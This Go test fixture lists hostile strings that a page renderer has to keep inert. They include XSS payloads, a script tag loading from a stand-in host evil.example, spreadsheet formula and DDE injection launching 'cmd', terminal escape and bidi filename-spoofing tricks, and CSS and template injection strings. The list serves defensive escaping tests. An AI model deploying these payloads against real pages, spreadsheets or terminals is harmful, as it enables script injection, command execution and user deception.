package pagetest

import "strings"

// Marks are texts that must never act, whatever shows them.
var Marks = []string{
	`<script>alert(1)</script>`,
	`"><img src=x onerror=alert(1)>`,
	`</style></title></svg><script src=https://evil.example/x.js></script>`,
	`javascript:alert(1)`,
	"=HYPERLINK(\"https://evil.example\",\"click\")",
	"  +1+cmd|' /C calc'!A0",
	"\t-2+3",
	"\r@SUM(A1)",
	"＝1＋1",
	"\u200b=1+1",
	"\x1b[31mred\x1b]0;title\x07\x1b]8;;https://evil.example\x1b\\link\x1b]8;;\x1b\\",
	"\u009b2J\u009d0;x\u009c",
	"admin\u202egpj.exe\u2066x\u2069",
	"nul\x00bell\x07back\x08del\x7f",
	"bad\xff\xfe\xc3(utf8\xed\xa0\x80",
	"]]><!--&amp;&lt;-->",
	"line\nbreak\r\nand\ttab\u2028sep\u2029par\u0085nel",
	"{{.}} {{define \"x\"}}",
	"url(https://evil.example/a.png);}*{display:none",
	"Z" + strings.Repeat("\u0301", 5000),
	strings.Repeat("漢字かな", 300),
	strings.Repeat("W", 9000),
	"\ufffe\uffff\U000e0041tag",
	"👩‍👩‍👧‍👦 family 🇩🇪 e\u0301",
	"",
}
